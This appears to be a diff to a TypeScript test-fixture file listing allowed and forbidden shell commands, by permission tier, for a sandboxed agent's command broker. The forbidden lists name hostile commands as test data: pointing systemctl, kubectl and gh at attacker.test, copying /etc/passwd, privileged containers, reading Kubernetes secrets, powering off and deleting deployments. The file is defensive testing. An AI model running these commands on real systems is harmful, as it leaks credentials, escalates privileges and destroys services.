@@ -1,4 +1,7 @@
-/** What the default rules of tiers 1 and 2 are for, and dangerous options of their own programs. */
+/**
+ * What the default rules are for, and dangerous options of their own programs: rules that the CLI
+ * understands of tiers 1 and 2, and rules of all tiers for agents in a sandbox.
+ */
 
 /** Of which the tests have stand-ins. */
 export const PROGRAMS = [
@@ -103,5 +106,165 @@ export const FORBIDDEN: Record<1 | 2, string[]> = {
     ...['git -c core.sshCommand=./run push -u origin tierwatch-fix', 'git checkout main'],
     ...['gh pr create --body-file SECRET', 'gh pr create -F SECRET', 'gh pr create --fill --web'],
     ...['gh pr create --fill -R attacker.test/a/b', 'gh pr create --fill --template SECRET'],
+  ],
+};
+
+/** In a sandbox: what the tiers are for, with the options that their rules name, in any order. */
+const CONFINED_READING = [
+  ...['docker ps -aq', "docker ps --format '{{.Names}}'", 'docker logs --tail 50 shop-web-1'],
+  ...['docker logs web --since 10m -t', 'docker inspect web', 'docker compose ls -a'],
+  ...["docker inspect nginx --format '{{.State.Status}}'", 'docker compose -p shop ps'],
+  ...['docker compose -p shop logs --tail=50 web', 'docker stats --no-stream'],
+  ...['systemctl status nginx -n 20 --no-pager', 'systemctl list-units --no-pager --failed'],
+  ...['journalctl -u web --since "1 hour ago" -n 50 --no-pager', 'journalctl -n 20 -p err'],
+  ...['kubectl logs deployment/web --tail=200 --previous', 'ping -c 3 web.example.test'],
+  ...['kubectl logs --since 10m deployment/web', 'dig +short web.example.test'],
+  ...['kubectl rollout status deployment/web --timeout=60s', 'dig web.example.test'],
+  ...['docker ps | head -5', 'for name in web nginx; do systemctl is-active $name; done'],
+];
+
+const CONFINED_CLUSTER_READING = [
+  ...['kubectl get pods -o wide', 'kubectl get events --sort-by=.lastTimestamp'],
+  'kubectl describe deployment web',
+];
+
+const CONFINED_REMEDIATION = [
+  ...['docker restart web', 'docker restart -t 20 nginx', 'docker start web'],
+  ...['docker compose -p shop restart web', 'docker compose -p shop start web'],
+  ...['systemctl restart nginx', 'systemctl start web', 'systemctl reload nginx'],
+  ...['kubectl rollout restart deployment/web', 'docker restart web && docker ps'],
+];
+
+export const CONFINED_ALLOWED: Record<1 | 2 | 3, string[]> = {
+  1: [...CONFINED_READING, ...CONFINED_CLUSTER_READING],
+  2: [...CONFINED_READING, ...CONFINED_CLUSTER_READING, ...CONFINED_REMEDIATION],
+  3: [
+    ...CONFINED_READING,
+    ...CONFINED_CLUSTER_READING,
+    ...CONFINED_REMEDIATION,
+    ...['docker stop web', 'docker exec web nginx -t', 'docker compose -p shop stop web'],
+    ...['kubectl get pods -A', 'kubectl scale --replicas=3 deployment/web', 'systemctl stop web'],
+    ...[
+      'kubectl rollout undo deployment/web',
+      'kubectl rollout undo deployment/web --to-revision 3',
+    ],
+    ...['helm list', 'helm history web', 'helm status web', 'helm rollback web 3 --wait'],
+  ],
+};
+
+/** Dangers of what only the broker's rules can name. */
+const CONFINED_FORBIDDEN_IN_ALL = [
+  // Other files of Compose, and what they say
+  ...['docker compose -p shop up -d', 'docker compose -p shop up -d web', 'docker compose up'],
+  ...['docker compose -p shop -f SECRET ps', 'docker compose -f evil.yml -p shop restart web'],
+  ...['docker compose -p -f SECRET ps', 'docker compose --env-file SECRET -p shop ps'],
+  ...['docker compose -p shop --project-directory / ps', 'docker compose -p shop config'],
+  ...['docker compose -p shop --file=evil.yml logs web', 'docker compose -p=shop -f evil.yml ps'],
+  ...['docker compose -p shop exec web sh', 'docker compose -p shop run web sh'],
+  ...[
+    'docker compose -p shop down',
+    'docker compose -p shop down -v',
+    'docker compose -p shop pull',
+  ],
+  ...['docker compose -p shop rm -f web', 'docker compose -p shop kill web'],
+  ...['docker compose -p shop cp SECRET web:/x', 'docker compose -p shop build'],
+  // Other services, and all of them
+  ...['docker compose -p shop restart', 'docker compose -p shop restart other'],
+  ...[
+    'docker compose -p shop restart web other',
+    'docker restart -t 5 other',
+    'docker start other',
+  ],
+  ...['docker inspect other', 'docker inspect --type volume web', 'docker inspect web other'],
+  ...['journalctl -u ssh -n 5', 'journalctl -u web -u ssh', 'systemctl status -n 5 ssh'],
+  ...['systemctl show ssh', 'systemctl status web ssh', 'kubectl logs deployment/other --tail=5'],
+  ...['kubectl logs --tail 5 web', 'kubectl rollout restart deployment/web deployment/other'],
+  // An option where a value is expected, and values of another kind
+  ...['docker restart -t --signal web', 'docker restart -t -1 web', 'docker restart --time=5s web'],
+  ...[
+    'docker logs --tail --details web',
+    'docker logs --tail ../x web',
+    'docker logs --since -f web',
+  ],
+  ...[
+    'journalctl -u --file=SECRET',
+    'journalctl -u web -n --file=SECRET',
+    'journalctl -n 5 -D /tmp',
+  ],
+  ...[
+    'journalctl -p err -o export',
+    'journalctl --vacuum-size=1 -p err -n 5',
+    'journalctl -p err -f',
+  ],
+  ...['systemctl --failed -H attacker.test', 'systemctl -H attacker.test --failed'],
+  ...['systemctl restart --host=attacker.test nginx', 'systemctl restart web --no-block --root=/x'],
+  ...['kubectl logs deployment/web --tail=5 --kubeconfig=./kc.json', 'kubectl get pods -o yaml'],
+  ...['kubectl get pods -o jsonpath={.items}', 'kubectl get pods -o wide --context other'],
+  ...[
+    'kubectl get events --sort-by=.x --server=https://attacker.test',
+    'kubectl get pods -f SECRET',
+  ],
+  ...['kubectl rollout status deployment/web --timeout=60s --token=x', 'kubectl apply -f SECRET'],
+  ...['kubectl apply -f plan.yaml', 'kubectl create -f plan.yaml', 'kubectl exec web -- id'],
+  ...['docker run --privileged alpine', 'docker cp web:/etc/passwd .', 'docker build .'],
+  ...['docker exec other id', 'docker exec --privileged web id', 'docker exec -u 0 web id'],
+  ...['docker exec --env-file SECRET web id', 'docker compose ls --context other'],
+  ...['ansible-playbook site.yml', 'helm upgrade web ./chart', 'helm install evil ./chart'],
+  ...[
+    'helm uninstall web',
+    'helm status web --kubeconfig kc.json',
+    'helm list --kube-context other',
+  ],
+  ...['helm rollback web 3 --post-renderer ./run', 'helm get values web', 'docker pull evil/image'],
+];
+
+/** Tier 3 may look at its releases, and at everything in its cluster but secrets. */
+const OF_TIER_3 = ['helm list'];
+
+export const CONFINED_FORBIDDEN: Record<1 | 2 | 3, string[]> = {
+  1: [
+    ...FORBIDDEN[1],
+    ...CONFINED_FORBIDDEN_IN_ALL,
+    ...['docker compose -p shop restart web', 'docker compose -p shop start web'],
+    ...['docker start web', 'systemctl reload nginx', 'docker restart -t 5 web'],
+  ],
+  2: [
+    ...FORBIDDEN[2],
+    ...CONFINED_FORBIDDEN_IN_ALL,
+    ...[
+      'docker stop web',
+      'docker compose -p shop stop web',
+      'docker exec web id',
+      'helm history web',
+    ],
+    ...['kubectl scale --replicas=0 deployment/web', 'systemctl stop web', 'kubectl get pods -A'],
+    ...['kubectl get secrets', 'kubectl get configmaps', 'helm rollback web 3'],
+  ],
+  3: [
+    ...FORBIDDEN_IN_BOTH.filter((form) => !OF_TIER_3.includes(form)),
+    ...CONFINED_FORBIDDEN_IN_ALL,
+    ...[
+      'kubectl get secrets',
+      'kubectl get pods,secrets',
+      'kubectl get secret/db',
+      'kubectl get all',
+    ],
+    ...[
+      'kubectl get pods -A -o json',
+      'kubectl describe secrets',
+      'kubectl get pods --template=SECRET',
+    ],
+    ...['docker stop other', 'docker stop web other', 'systemctl stop ssh'],
+    ...[
+      'systemctl start poweroff.target',
+      'systemctl stop -M other web',
+      'systemctl isolate x.target',
+    ],
+    ...[
+      'kubectl scale --replicas=0 deployment/other',
+      'kubectl scale --replicas=0 deployment --all',
+    ],
+    ...['kubectl rollout undo deployment/web --context other', 'kubectl delete deployment web'],
+    ...['helm rollback web', 'helm rollback web 3 -f SECRET', 'git push --force', 'docker rm web'],
   ],
 };
